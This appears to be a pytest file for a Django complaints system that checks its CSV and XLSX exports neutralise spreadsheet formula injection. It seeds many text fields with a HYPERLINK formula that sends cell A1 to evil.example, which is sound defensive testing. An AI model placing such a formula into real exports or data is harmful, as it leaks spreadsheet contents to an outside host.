"""Formula injection: every export cell that carries user or administrator text stays text.

A spreadsheet reads a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
as a formula. Each of those starters is put at the front of every text column of both exports
(the worklist's and the weekly summary's), through the models, so that nothing on the way in
trims it; the CSV cell must come out behind a single quote, and the XLSX cell must be a string
cell (never a formula) with the same quote. ``formula_safe`` itself is unit-tested in
tests/complaints/test_pages_worklist.py::test_formula_safe.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from complaints.models import Category, Complaint
from reports.iso_weeks import IsoWeek
from staff.models import Department
from tests.complaints.helpers import act
from tests.factories import BuildingFactory, UnitFactory, log_complaint, make_staff

pytestmark = pytest.mark.django_db

STARTERS = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "tab": "\t",
    "carriage return": "\r",
}
# A username may only hold letters, digits and @.+-_ : the starters it can take.
USERNAME_STARTERS = {"+", "-", "@"}


def _formula(starter: str) -> str:
    return f'{starter}HYPERLINK("https://evil.example/?"&A1,"x")'


@pytest.fixture
def rigged(frontdesk, supervisor, estate, request):
    """A complaint whose every exported text begins with the starter under test."""
    starter = request.param
    value = _formula(starter)
    estate.name = value
    estate.save(update_fields=["name"])
    unit = UnitFactory(building=BuildingFactory(estate=estate, name=value))
    top = Category.objects.get(code="FAC")
    Category.objects.filter(pk=top.pk).update(name_zh=value, name_en=value)
    Department.objects.filter(code="ENG").update(name_zh=value, name_en=value)
    username = f"{starter}2+3" if starter in USERNAME_STARTERS else "engineer"
    make_staff(username, role="handler", department="ENG", estates=[estate])
    complaint = log_complaint(
        frontdesk, estate=estate, unit=unit, contact_name=value, summary=value, account=value
    )
    act(complaint, supervisor, "assign", department="ENG", assignee=username)
    # Fields the intake form would have trimmed are set as an import or the admin could.
    Complaint.objects.filter(pk=complaint.pk).update(summary=value, contact_name=value)
    complaint.refresh_from_db()
    return {"value": value, "username": username, "complaint": complaint, "starter": starter}


WORKLIST_TEXT_COLUMNS = {
    2: "estate",
    3: "unit",
    4: "complainant",
    7: "category",
    9: "summary",
    12: "department",
}


def _csv(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _xlsx(response) -> list:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(content))
    return [list(row) for sheet in workbook.worksheets for row in sheet.iter_rows()]


def _neutralised(text: str, value: str) -> bool:
    # XML (inside XLSX) reads a carriage return back as a line feed; the quote is what counts.
    starts = ("'" + value[0], "'\n") if value[0] == "\r" else ("'" + value[0],)
    return text.startswith(starts) and not text.startswith(tuple(STARTERS.values()))


@pytest.mark.parametrize("rigged", STARTERS.values(), ids=STARTERS.keys(), indirect=True)
def test_the_worklist_csv_neutralises_every_text_column(client, supervisor, rigged):
    client.force_login(supervisor)
    rows = _csv(client.get("/complaints/export.csv"))

    row = next(r for r in rows if r[0] == rigged["complaint"].reference)
    for position, name in WORKLIST_TEXT_COLUMNS.items():
        assert _neutralised(row[position], rigged["value"]), (name, row[position])
    if rigged["starter"] in USERNAME_STARTERS:
        assert row[13] == "'" + rigged["username"]
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(tuple(STARTERS.values())), cell


@pytest.mark.parametrize("rigged", STARTERS.values(), ids=STARTERS.keys(), indirect=True)
def test_the_worklist_xlsx_has_no_formula_cell(client, supervisor, rigged):
    client.force_login(supervisor)
    rows = _xlsx(client.get("/complaints/export.xlsx"))

    row = next(r for r in rows if r[0].value == rigged["complaint"].reference)
    for position, name in WORKLIST_TEXT_COLUMNS.items():
        assert row[position].data_type == "s", name
        assert _neutralised(row[position].value, rigged["value"]), (name, row[position].value)
    assert all(cell.data_type != "f" for r in rows for cell in r)


def _week(complaint: Complaint) -> str:
    return str(IsoWeek.of(timezone.localtime(complaint.received_at, complaint.estate.zone).date()))


@pytest.mark.parametrize("rigged", STARTERS.values(), ids=STARTERS.keys(), indirect=True)
@pytest.mark.parametrize("ext", ["csv", "xlsx"])
def test_the_weekly_exports_neutralise_category_and_building_names(client, supervisor, rigged, ext):
    client.force_login(supervisor)
    response = client.get(f"/reports/weekly.{ext}", {"week": _week(rigged["complaint"])})
    assert response.status_code == 200

    if ext == "csv":
        cells = [cell for row in _csv(response) for cell in row]
    else:
        rows = _xlsx(response)
        assert all(cell.data_type != "f" for row in rows for cell in row)
        cells = [cell.value for row in rows for cell in row if isinstance(cell.value, str)]
    rigged_cells = [c for c in cells if "HYPERLINK" in c]
    # The category's row and the top building's row both name the rigged text.
    assert len(rigged_cells) >= 2
    for cell in rigged_cells:
        assert _neutralised(cell, rigged["value"]), cell
    assert not [c for c in cells if isinstance(c, str) and c.startswith(tuple(STARTERS.values()))]
